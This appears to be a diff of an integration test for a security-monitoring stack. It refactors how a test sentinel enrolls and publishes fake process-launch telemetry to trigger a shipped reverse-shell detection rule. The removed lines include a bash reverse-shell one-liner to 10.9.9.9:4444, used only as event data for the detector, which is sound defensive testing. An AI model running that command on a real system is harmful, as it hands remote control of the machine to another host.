@@ -5,39 +5,28 @@
 // client certificate the handshake is refused. The venv and Go modules come from
 // scripts/clients-tools.mjs (npm run setup).
 import { execFile } from 'node:child_process';
-import { createHash, randomUUID } from 'node:crypto';
+import { createHash } from 'node:crypto';
 import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { homedir, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import * as grpc from '@grpc/grpc-js';
-import { connectBus, identityNatsOptions, publish, subjects, type Bus } from '@omega/bus';
 import {
-  Event,
-  EventBatch,
   IntelligenceServiceClient,
   ListAlertsRequest,
   Severity,
   severityToJSON,
   type Alert,
 } from '@omega/proto';
-import { createLogger, createPromiseClient } from '@omega/runtime';
+import { createPromiseClient } from '@omega/runtime';
 import type { ServiceName } from '@omega/service';
-import {
-  bootstrapChannelCredentials,
-  enroll,
-  joinTokenFromFile,
-  signEventBatch,
-  type Credentials,
-} from '@omega/trust-client';
 import { eventually, grpcurl } from '@omega/testkit';
 import { LocalStack } from './local-stack';
 import { cliChannelCredentials } from './operator-identity';
+import { REVERSE_SHELL_COMMAND, TelemetrySentinel } from './testing/telemetry-sentinel';
 
 const root = join(__dirname, '..', '..', '..');
 const SERVICES: ServiceName[] = ['trust', 'intelligence', 'orchestrator', 'gateway'];
 const NODE = 'clients-spec-node';
-/** The shipped Sigma rule for an interactive shell to a TCP socket (apps/intelligence/rules). */
-const REVERSE_SHELL_COMMAND = 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1';
 
 /** How a client run exited and what it printed. */
 interface Run {
@@ -78,98 +67,7 @@ let dataDir: string;
 let goQuickstart: string;
 let python: string;
 let raised: Alert;
-let sentinel: SpecSentinel;
-
-/** A sentinel enrolled with trust (the stack's sentinel/* join token) on its own bus connection. */
-interface SpecSentinel {
-  readonly credentials: Credentials;
-  readonly bus: Bus;
-  readonly sessionId: string;
-  sequence: bigint;
-}
-
-async function enrollSentinel(): Promise<SpecSentinel> {
-  const keys = join(dataDir, 'trust', 'keys');
-  const caPem = readFileSync(join(keys, 'trust-ca.pem'), 'utf8');
-  const joinToken = joinTokenFromFile(
-    readFileSync(join(keys, 'join-tokens'), 'utf8'),
-    'sentinel',
-    '*',
-  );
-  if (joinToken === undefined) throw new Error('no sentinel/* join token in the stack');
-  const credentials = await enroll({
-    trustAddress: `127.0.0.1:${stack.portsOf('trust').grpcPort}`,
-    subjectKind: 'sentinel',
-    name: NODE,
-    joinToken,
-    channelCredentials: bootstrapChannelCredentials(caPem),
-  });
-  const clientCertificate = {
-    certificatePem: credentials.certificateChainPem,
-    privateKeyPem: credentials.tlsPrivateKey.export({ format: 'pem', type: 'pkcs8' }).toString(),
-  };
-  const bus = await connectBus({
-    servers: stack.natsUrl ?? '',
-    name: `clients-spec-${NODE}`,
-    logger: createLogger({ service: 'spec', level: 'silent' }),
-    natsOptions: identityNatsOptions({
-      caPem,
-      identity: { kind: 'sentinel', name: NODE },
-      clientCertificate: () => clientCertificate,
-    }),
-  });
-  return { credentials, bus, sessionId: randomUUID(), sequence: 0n };
-}
-
-/**
- * Publishes one reverse-shell process launch (in `pod` of namespace clients, or on the node) as the
- * sentinel's signed batch. Alerts are folded per (rule, entity) per minute: a new pod is a new alert.
- */
-async function raiseAlert(pod?: string): Promise<void> {
-  const nowNs = BigInt(Date.now()) * 1_000_000n;
-  const launched = {
-    pid: 4242,
-    uid: `${NODE}:4242:${nowNs}`,
-    name: 'bash',
-    executablePath: '/usr/bin/bash',
-    args: ['bash', '-i'],
-    cmdLine: REVERSE_SHELL_COMMAND,
-    startTimeNs: String(nowNs),
-    user: { posixUid: 0, posixGid: 0 },
-    parent: { pid: 4200, name: 'sh', executablePath: '/bin/sh' },
-  };
-  // As the sentinel writes a launch (test-corpus/demo/process-events.ndjson has real ones).
-  const event = Event.fromJSON({
-    id: randomUUID(),
-    timeNs: String(nowNs),
-    classUid: 'EVENT_CLASS_PROCESS_ACTIVITY',
-    severity: 'SEVERITY_INFORMATIONAL',
-    message: 'exec /usr/bin/bash (pid 4242, ppid 4200)',
-    actor: { process: launched, user: { posixUid: 0, posixGid: 0 } },
-    node: NODE,
-    ...(pod ? { workload: { namespace: 'clients', pod } } : {}),
-    processActivity: { activityId: 'PROCESS_ACTIVITY_ID_LAUNCH', process: launched },
-  });
-  const { credentials } = sentinel;
-  const sequence = ++sentinel.sequence;
-  const batch = EventBatch.fromPartial({
-    sender: { id: credentials.subject, keyId: credentials.signer.keyId },
-    sessionId: sentinel.sessionId,
-    sequence,
-    createdTimeNs: nowNs,
-    events: [event],
-  });
-  const signed = signEventBatch(credentials.signer, batch);
-  // The signed bytes as produced, never a re-encoding.
-  const asSigned = {
-    $type: EventBatch.$type,
-    encode: () => ({ finish: () => signed }),
-    decode: EventBatch.decode,
-  };
-  await publish(sentinel.bus, subjects.telemetry('process', NODE), asSigned, batch, {
-    msgId: `${credentials.subject}:${sentinel.sessionId}:${sequence}`,
-  });
-}
+let sentinel: TelemetrySentinel;
 
 beforeAll(async () => {
   for (const name of SERVICES) {
@@ -207,8 +105,13 @@ beforeAll(async () => {
   if (built.code !== 0) throw new Error(`go build ./examples/quickstart failed:\n${built.stderr}`);
 
   // One alert, raised by the shipped rules from a sentinel's telemetry, seen through the gateway.
-  sentinel = await enrollSentinel();
-  await raiseAlert();
+  sentinel = await TelemetrySentinel.enroll({
+    dataDir,
+    trustAddress: `127.0.0.1:${stack.portsOf('trust').grpcPort}`,
+    natsUrl: stack.natsUrl ?? '',
+    node: NODE,
+  });
+  await sentinel.launch(REVERSE_SHELL_COMMAND);
   const credentials = await cliChannelCredentials(dataDir, 'gateway');
   if (credentials === undefined) throw new Error(`no operator credential in ${dataDir}`);
   const intelligence = createPromiseClient(IntelligenceServiceClient, gatewayAddress(), {
@@ -227,7 +130,7 @@ beforeAll(async () => {
 }, 420_000);
 
 afterAll(async () => {
-  await sentinel?.bus.drain();
+  await sentinel?.close();
   await stack?.stop();
   if (dataDir) rmSync(dataDir, { recursive: true, force: true });
 });
@@ -324,7 +227,7 @@ describe('the Go and Python clients against the gateway of omega up', () => {
     // Neither says when its stream is subscribed: fresh alerts (a new pod each, so none is folded
     // into another) are raised until both have streamed one and exited.
     for (let n = 0; running; n++) {
-      await raiseAlert(`live-${n}`);
+      await sentinel.launch(REVERSE_SHELL_COMMAND, `live-${n}`);
       await new Promise((resolve) => setTimeout(resolve, 1_000));
     }
     for (const result of await runs) {
